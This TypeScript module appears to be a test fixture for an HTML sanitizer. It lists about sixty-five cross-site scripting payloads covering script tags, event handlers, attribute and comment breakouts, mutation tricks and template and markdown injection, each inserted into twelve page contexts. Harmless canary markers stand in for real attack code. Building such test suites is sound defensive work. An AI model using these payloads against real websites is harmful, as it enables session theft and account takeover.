/** What a stranger's script may do by which we notice it: it says so, or asks another server. */
const SAYS = 'ran(0)';
const OUTSIDE = '//outside.invalid/0';
/** `ran(0)` in letters that only a parser puts together. */
const SPELT = '&#114;&#97;&#110;&#40;&#48;&#41;';

/**
 * Sixty ways to put a script, or a question to another server, into a page: by elements, by handlers, out of an
 * attribute, a comment, a script or a style, by addresses, by parsers that disagree, by templates and markdown.
 * Kinds after the OWASP cheat sheet of filter evasions and the HTML5 security cheat sheet. Printable ASCII, no
 * longer than 120 signs, so that each goes through every field.
 */
export const RAW_PAYLOADS: readonly string[] = [
  `<script>${SAYS}</script>`,
  `<ScRiPt>${SAYS}</sCrIpT>`,
  `<script src=${OUTSIDE}></script>`,
  `<script/src=${OUTSIDE}>`,
  `<script type=module>${SAYS}</script>`,
  `<<script>${SAYS};//<</script>`,
  `<img src=x onerror=${SAYS}>`,
  `<img src=${OUTSIDE}>`,
  `<img srcset=${OUTSIDE}>`,
  `<img src='x'/onerror=${SAYS}>`,
  `<img src=x onerror="${SPELT}">`,
  `<IMG """><script>${SAYS}</script>">`,
  `<image src=x onerror=${SAYS}>`,
  `<svg onload=${SAYS}>`,
  `<svg><script>${SAYS}</script></svg>`,
  `<svg><script href=${OUTSIDE} /></svg>`,
  `<svg><animate onbegin=${SAYS} attributeName=x dur=1s>`,
  `<svg><set onbegin=${SAYS} attributeName=x>`,
  `<svg><image href=${OUTSIDE} /></svg>`,
  `<math><mtext><img src=x onerror=${SAYS}></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${SAYS}>">`,
  `<body onload=${SAYS}>`,
  `<body onpageshow=${SAYS}>`,
  `<iframe onload=${SAYS}></iframe>`,
  `<iframe src="javascript:parent.${SAYS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SAYS}</script>"></iframe>`,
  `<iframe src=${OUTSIDE}></iframe>`,
  `<object data=${OUTSIDE}></object>`,
  `<embed src=${OUTSIDE}>`,
  `<video src=x onerror=${SAYS}>`,
  `<video><source onerror=${SAYS} src=x></video>`,
  `<audio src=x onerror=${SAYS}>`,
  `<video poster=${OUTSIDE}>`,
  `<details open ontoggle=${SAYS}>`,
  `<input autofocus onfocus=${SAYS}>`,
  `<select autofocus onfocus=${SAYS}>`,
  `<p id=x tabindex=1 autofocus onfocus=${SAYS}>x</p>`,
  `<style>@import "${OUTSIDE}";</style>`,
  `<style>*{background:url(${OUTSIDE})}</style>`,
  `<p style="background:url(${OUTSIDE})">x</p>`,
  `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${SAYS}>x</p>`,
  `<link rel=stylesheet href=${OUTSIDE}>`,
  `<link rel=prefetch href=${OUTSIDE}><link rel=preload as=image href=${OUTSIDE}>`,
  `<meta http-equiv=refresh content="0;url=http:${OUTSIDE}">`,
  `<base href=http:${OUTSIDE}/><img src=x>`,
  `<form action=${OUTSIDE} id=f></form><img src=x onerror=f.submit()>`,
  `"><script>${SAYS}</script>`,
  `'><img src=x onerror=${SAYS}>`,
  `" onfocus=${SAYS} autofocus x="`,
  `' onfocus=${SAYS} autofocus x='`,
  `--><script>${SAYS}</script><!--`,
  `]]><script>${SAYS}</script>`,
  `</textarea><script>${SAYS}</script>`,
  `</title><script>${SAYS}</script>`,
  `</style><script>${SAYS}</script>`,
  `</script><script>${SAYS}</script>`,
  `</noscript><img src=x onerror=${SAYS}>`,
  `</template><img src=x onerror=${SAYS}>`,
  `";${SAYS};//`,
  `';${SAYS};//`,
  `javascript:${SAYS}`,
  `{{{this}}}{{#with "s" as |s|}}{{lookup s "constructor"}}{{/with}}<img src=x onerror=${SAYS}>`,
];

/** And what does harm only behind an engine of ours: one that parses again, or knows templates or markdown. */
export const PAYLOADS: readonly string[] = [
  ...RAW_PAYLOADS,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SAYS}&gt;">`,
  `<scr<script>ipt>${SAYS}</scr</script>ipt>`,
  `[the answer](javascript:${SAYS})`,
  `![the answer](http:${OUTSIDE})`,
  `{{constructor.constructor('${SAYS}')()}}`,
];

/** Where text stands in a page; a payload that runs in none of them is no payload. */
export const PLACES: readonly ((text: string) => string)[] = [
  (text) => `<p>${text}</p>`,
  (text) => `<input value="${text}">`,
  (text) => `<input value='${text}'>`,
  (text) => `<textarea>${text}</textarea>`,
  (text) => `<title>${text}</title>`,
  (text) => `<style>${text}</style>`,
  (text) => `<noscript>${text}</noscript>`,
  (text) => `<template>${text}</template>`,
  (text) => `<!-- ${text} -->`,
  (text) => `<script>const said = "${text}";</script>`,
  (text) => `<script>const said = '${text}';</script>`,
  (text) => `<iframe src="${text}"></iframe>`,
];
